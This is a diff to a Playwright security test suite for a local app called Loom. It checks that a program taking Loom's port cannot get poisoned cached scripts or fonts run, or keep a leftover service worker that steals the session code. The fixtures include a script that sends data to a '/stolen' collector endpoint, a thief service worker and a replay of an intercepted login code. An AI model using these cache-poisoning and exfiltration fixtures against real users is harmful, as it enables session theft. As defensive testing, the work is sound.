@@ -1,13 +1,17 @@
 // Another program that had Loom's port before, or takes it afterwards, and what it may have left in the browser.
 import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
-import { readdirSync } from 'node:fs';
+import { readdirSync, readFileSync } from 'node:fs';
 import type { AddressInfo, Socket } from 'node:net';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
 import { WebSocketServer } from 'ws';
 import { expect, test, type Page } from '@playwright/test';
 import { Daemon } from '../support/daemon.ts';
 
-const assets = readdirSync(new URL('../../dist/web/assets', import.meta.url)).map((name) => `/assets/${name}`);
+const built = fileURLToPath(new URL('../../dist/web', import.meta.url));
+const assets = readdirSync(join(built, 'assets')).map((name) => `/assets/${name}`);
 const later = assets.find((name) => name.includes('estimator')) ?? '';
+const fonts = assets.filter((name) => name.endsWith('.woff2'));
 const script = assets.find((name) => /\/index-.*\.js$/.test(name)) ?? '';
 
 type Answer = (request: IncomingMessage, response: ServerResponse) => void;
@@ -50,7 +54,7 @@ class Squatter {
   }
 }
 
-function send(response: ServerResponse, type: string, body: string, cache = 'no-store'): void {
+function send(response: ServerResponse, type: string, body: string | Buffer, cache = 'no-store'): void {
   response.writeHead(200, { 'content-type': type, 'cache-control': cache });
   response.end(body);
 }
@@ -111,13 +115,16 @@ test('assets left in the cache under the names of Loom’s own are not run', asy
   await place.leave();
 });
 
-test('nor are those that Loom loads later', async ({ page }) => {
+test('nor are those that Loom loads later', { tag: '@slow' }, async ({ page }) => {
   const { brought, place } = await collector();
   const steal = `fetch('${place.origin}/stolen', { mode: 'no-cors' });`;
   const squatter = await Squatter.on(0, (request, response) => {
     const year = 'public, max-age=31536000, immutable';
+    const [font = '', other = ''] = fonts;
     if (request.url === later) send(response, 'text/javascript', steal, year);
-    else send(response, 'text/html', `<!doctype html><script type="module">import '${later}';</script>`);
+    // A font that is one, but another: it would draw other letters.
+    else if (request.url === font) send(response, 'font/woff2', readFileSync(join(built, other)), year);
+    else send(response, 'text/html', `<script type="module">await fetch('${font}'); import('${later}');</script>`);
   });
   await page.goto(squatter.origin);
   await expect.poll(() => brought.length).toBe(1);
@@ -131,6 +138,7 @@ test('nor are those that Loom loads later', async ({ page }) => {
   const passphrase = page.getByRole('textbox', { name: 'Passphrase' });
   await passphrase.fill('correct horse');
   await expect.poll(() => said.some((text) => text.includes('integrity'))).toBe(true);
+  await expect.poll(() => page.evaluate(() => document.fonts.size)).toBe(fonts.length - 1);
   // A passphrase is chosen all the same, unjudged.
   await page.getByRole('textbox', { name: 'Your name' }).fill('Ann');
   await page.getByRole('button', { name: 'Create my identity' }).click();
@@ -176,43 +184,47 @@ const thief = (collectorOrigin: string): string => `<!doctype html><title>thief<
 </script>`;
 
 for (const kind of ['stands in for Loom', 'looks on'] as const) {
-  test(`a service worker left over that ${kind} is gone after one visit, and what it saw is void`, async ({ page }) => {
-    const { brought, place } = await collector();
-    const shell = kind === 'looks on' ? null : thief(place.origin);
-    const squatter = await Squatter.on(0, (request, response) => {
-      if (request.url === '/sw.js') send(response, 'text/javascript', worker(place.origin, shell));
-      else send(response, 'text/html', `<!doctype html><script>navigator.serviceWorker.register('/sw.js')</script>`);
-    });
-    await page.goto(squatter.origin);
-    await page.evaluate(async () => (await navigator.serviceWorker.ready).active?.state);
-    await expect.poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
-    await page.goto('about:blank');
-    await squatter.leave();
+  test(
+    `a service worker left over that ${kind} is gone after one visit, and what it saw is void`,
+    { tag: kind === 'looks on' ? '@slow' : [] },
+    async ({ page }) => {
+      const { brought, place } = await collector();
+      const shell = kind === 'looks on' ? null : thief(place.origin);
+      const squatter = await Squatter.on(0, (request, response) => {
+        if (request.url === '/sw.js') send(response, 'text/javascript', worker(place.origin, shell));
+        else send(response, 'text/html', `<!doctype html><script>navigator.serviceWorker.register('/sw.js')</script>`);
+      });
+      await page.goto(squatter.origin);
+      await page.evaluate(async () => (await navigator.serviceWorker.ready).active?.state);
+      await expect.poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
+      await page.goto('about:blank');
+      await squatter.leave();
 
-    const daemon = await loomOn(squatter.port, '');
-    const url = await daemon.url();
-    await page.goto(url);
-    await expect.poll(() => brought.join('\n')).toContain(new URL(url).hash);
-    const registrations = (): Promise<number> =>
-      page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length);
-    await expect.poll(registrations).toBe(0);
-    // Asked past the worker, as a thief elsewhere on this computer would ask.
-    const reply = await fetch(`${daemon.origin}/api/session`, {
-      method: 'POST',
-      headers: { 'content-type': 'application/json', origin: daemon.origin },
-      body: JSON.stringify({ code: new URL(url).hash.replace('#code=', '') }),
-    });
-    expect(reply.status).toBe(401);
-    if (kind === 'looks on') await expect(page.getByRole('button', { name: 'Add contact' })).toHaveCount(0);
-    else if (brought.includes('/in')) await expect.poll(() => brought).toContain('/closed 4401');
+      const daemon = await loomOn(squatter.port, '');
+      const url = await daemon.url();
+      await page.goto(url);
+      await expect.poll(() => brought.join('\n')).toContain(new URL(url).hash);
+      const registrations = (): Promise<number> =>
+        page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length);
+      await expect.poll(registrations).toBe(0);
+      // Asked past the worker, as a thief elsewhere on this computer would ask.
+      const reply = await fetch(`${daemon.origin}/api/session`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', origin: daemon.origin },
+        body: JSON.stringify({ code: new URL(url).hash.replace('#code=', '') }),
+      });
+      expect(reply.status).toBe(401);
+      if (kind === 'looks on') await expect(page.getByRole('button', { name: 'Add contact' })).toHaveCount(0);
+      else if (brought.includes('/in')) await expect.poll(() => brought).toContain('/closed 4401');
 
-    brought.length = 0;
-    await page.goto('about:blank');
-    await page.goto(await daemon.url());
-    await expectIn(page);
-    expect(brought).toEqual([]);
-    await place.leave();
-  });
+      brought.length = 0;
+      await page.goto('about:blank');
+      await page.goto(await daemon.url());
+      await expectIn(page);
+      expect(brought).toEqual([]);
+      await place.leave();
+    },
+  );
 }
 
 test('a program that takes the port of a Loom that ended learns nothing from a tab left open', async ({ page }) => {
@@ -221,7 +233,8 @@ test('a program that takes the port of a Loom that ended learns nothing from a t
   await page.goto(await daemon.url());
   await expectIn(page);
   const kept = JSON.parse((await page.evaluate(() => sessionStorage.getItem('loom.session'))) ?? '') as Session;
-  // Written by a person while nobody answers: it waits in the tab.
+  // All that the page loads by itself is there.
+  await expect.poll(() => page.evaluate(() => document.fonts.size)).toBe(fonts.length);
   await daemon.kill();
 
   const heard: string[] = [];
